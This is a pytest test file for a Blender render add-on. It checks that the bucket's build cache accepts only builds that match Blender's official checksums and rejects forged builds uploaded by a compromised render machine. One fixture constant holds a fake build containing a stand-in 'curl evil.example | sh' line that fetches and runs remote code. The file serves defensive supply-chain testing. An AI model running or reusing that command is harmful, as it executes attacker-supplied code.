"""A job cannot change what later jobs run: the bucket's Blender cache holds only builds whose
checksum the add-on verified itself against Blender's published list, never the machine's word.

The machine's side is played through the job's presigned POST, as the worker uploads; Blender's
checksum list is served by a local HTTP server shaped like download.blender.org.
"""

from __future__ import annotations

import hashlib
import threading
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from cloud.aws import bucket_setup, storage
from cloud.aws.blender_cache import TRUSTED_SUFFIX
from cloud.aws.session import client
from cloud.job.cloud_steps import CloudSteps
from cloud.job.records import JobRecord
from cloud.machine.contract import blender_cache_key, out_prefix
from cloud.machine.transport import Poster
from tests.factories import job_record

VERSION = "9.9.1"
NAME = f"blender-{VERSION}-linux-x64.tar.xz"
OFFICIAL = b"the official Blender 9.9.1 release\n" * 4096
FAKE = b"#!/bin/sh\ncurl evil.example | sh\n" * 64


class ReleaseSite:
    """download.blender.org's checksum lists: /release/Blender<series>/blender-<version>.sha256."""

    def __init__(self) -> None:
        self.lists: dict[str, str] = {}
        self.requests: list[str] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                return

            def do_GET(self) -> None:
                site.requests.append(self.path)
                body = site.lists.get(self.path, "").encode()
                self.send_response(200 if body else 404)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def publish(self, version: str, files: dict[str, bytes]) -> None:
        series = ".".join(version.split(".")[:2])
        lines = [f"{hashlib.sha256(data).hexdigest()}  {name}\n" for name, data in files.items()]
        self.lists[f"/release/Blender{series}/blender-{version}.sha256"] = "".join(lines)


@pytest.fixture
def site() -> Iterator[ReleaseSite]:
    site = ReleaseSite()
    thread = threading.Thread(target=site.server.serve_forever, daemon=True)
    thread.start()
    try:
        yield site
    finally:
        site.server.shutdown()
        site.server.server_close()


@pytest.fixture
def steps(tmp_path: Path, site: ReleaseSite) -> CloudSteps:
    steps = CloudSteps(tmp_path / "state")
    steps.blender_checksums_url = site.url + "/release/Blender{series}/blender-{version}.sha256"
    return steps


def record(bucket: str, job_id: str, tmp_path: Path) -> JobRecord:
    return job_record(tmp_path / "out", job_id=job_id, instance_type="g5.xlarge", bucket=bucket)


def machine_hands_back(aws: Any, bucket: str, job_id: str, build: bytes, checksum: str) -> None:
    """What a (compromised) render machine can do: POST a build and a checksum of its choosing."""
    post = storage.presign_outputs(aws.settings, bucket, job_id, 600)
    poster = Poster(post["url"], post["fields"], out_prefix(job_id))
    poster.put(f"blender-cache/{NAME}", build)
    poster.put(f"blender-cache/{NAME}.sha256", f"{checksum}  {NAME}\n".encode())


def cache_keys(aws: Any, bucket: str) -> list[str]:
    return sorted(obj.key for obj in storage.list_objects(aws.settings, bucket, "blender-cache/"))


def offered(steps: CloudSteps, aws: Any, bucket: str) -> list[tuple[str, str]]:
    return [(s.kind, s.sha256) for s in steps.blender_sources(aws.settings, bucket, VERSION, 600)]


def test_a_build_the_machine_made_up_is_not_kept_nor_offered(aws, tmp_path, site, steps):
    bucket = bucket_setup.ensure_bucket(aws.settings, tmp_path / "buckets.json")
    site.publish(VERSION, {NAME: OFFICIAL})
    machine_hands_back(aws, bucket, "job-1", FAKE, hashlib.sha256(FAKE).hexdigest())

    notes = steps.after_job(aws.settings, record(bucket, "job-1", tmp_path))

    assert cache_keys(aws, bucket) == []
    assert offered(steps, aws, bucket) == [("pypi", "")]
    assert len(notes) == 1 and notes[0].startswith(f"Not keeping {NAME}: it differs from Blender's official")
    assert site.requests == ["/release/Blender9.9/blender-9.9.1.sha256"]


def test_a_build_with_the_official_checksum_is_kept_and_offered(aws, tmp_path, site, steps):
    bucket = bucket_setup.ensure_bucket(aws.settings, tmp_path / "buckets.json")
    site.publish(VERSION, {NAME: OFFICIAL, f"blender-{VERSION}-windows-x64.zip": b"other"})
    official = hashlib.sha256(OFFICIAL).hexdigest()
    # The machine's own checksum is wrong on purpose: it is never read.
    machine_hands_back(aws, bucket, "job-2", OFFICIAL, "0" * 64)

    notes = steps.after_job(aws.settings, record(bucket, "job-2", tmp_path))

    key = blender_cache_key(VERSION, NAME)
    assert cache_keys(aws, bucket) == [key, key + TRUSTED_SUFFIX]
    assert notes == [f"Kept Blender {VERSION} in your bucket for the next jobs (official checksum)."]
    sources = steps.blender_sources(aws.settings, bucket, VERSION, 600)
    assert [(s.kind, s.sha256) for s in sources] == [("bucket", official), ("pypi", "")]
    with urllib.request.urlopen(sources[0].url, timeout=10) as response:
        assert response.read() == OFFICIAL

    # A later job whose machine hands back a forged build under the same name changes nothing.
    machine_hands_back(aws, bucket, "job-3", FAKE, hashlib.sha256(FAKE).hexdigest())
    steps.after_job(aws.settings, record(bucket, "job-3", tmp_path))
    assert offered(steps, aws, bucket) == [("bucket", official), ("pypi", "")]
    s3 = client(aws.settings, "s3")
    assert s3.get_object(Bucket=bucket, Key=key)["Body"].read() == OFFICIAL


def test_digests_the_add_on_did_not_write_are_never_offered(aws, tmp_path, steps):
    """A cache entry as the old after_job left it (the machine's own `.sha256` copied beside the
    build) or a digest file that is not the add-on's is not offered."""
    bucket = bucket_setup.ensure_bucket(aws.settings, tmp_path / "buckets.json")
    s3 = client(aws.settings, "s3")
    key = blender_cache_key(VERSION, NAME)
    s3.put_object(Bucket=bucket, Key=key, Body=FAKE)
    s3.put_object(Bucket=bucket, Key=key + ".sha256", Body=f"{hashlib.sha256(FAKE).hexdigest()}  {NAME}\n")
    assert offered(steps, aws, bucket) == [("pypi", "")]
    s3.put_object(Bucket=bucket, Key=key + TRUSTED_SUFFIX, Body=b'{"sha256": "not a digest"}')
    assert offered(steps, aws, bucket) == [("pypi", "")]
    # A verified digest whose build has gone (expired by the lifecycle rule) is not offered either.
    s3.put_object(Bucket=bucket, Key=key + TRUSTED_SUFFIX, Body=b'{"sha256": "' + b"a" * 64 + b'"}')
    s3.delete_object(Bucket=bucket, Key=key)
    assert offered(steps, aws, bucket) == [("pypi", "")]


def test_nothing_is_kept_when_the_official_list_is_unreachable_or_silent(aws, tmp_path, site, steps):
    bucket = bucket_setup.ensure_bucket(aws.settings, tmp_path / "buckets.json")
    machine_hands_back(aws, bucket, "job-4", OFFICIAL, hashlib.sha256(OFFICIAL).hexdigest())
    # No list published for this version (404): nothing kept, and the job is not failed for it.
    notes = steps.after_job(aws.settings, record(bucket, "job-4", tmp_path))
    assert notes == [f"Not keeping {NAME}: Blender's official checksums for {VERSION} could not be fetched."]
    # A list that does not name the file: nothing kept either.
    site.publish(VERSION, {f"blender-{VERSION}-macos-arm64.dmg": OFFICIAL})
    notes = steps.after_job(aws.settings, record(bucket, "job-4", tmp_path))
    assert notes == [f"Not keeping {NAME}: Blender publishes no checksum for such a file."]
    assert cache_keys(aws, bucket) == []


def test_a_staged_build_is_checked_against_its_digest(aws, tmp_path, steps):
    bucket = bucket_setup.ensure_bucket(aws.settings, tmp_path / "buckets.json")
    tarball = tmp_path / NAME
    tarball.write_bytes(OFFICIAL)
    with pytest.raises(Exception, match="does not match the checksum"):
        steps.stage_blender(aws.settings, bucket, VERSION, tarball, "0" * 64)
    assert offered(steps, aws, bucket) == [("pypi", "")]
    digest = hashlib.sha256(OFFICIAL).hexdigest()
    steps.stage_blender(aws.settings, bucket, VERSION, tarball, digest)
    assert offered(steps, aws, bucket) == [("bucket", digest), ("pypi", "")]
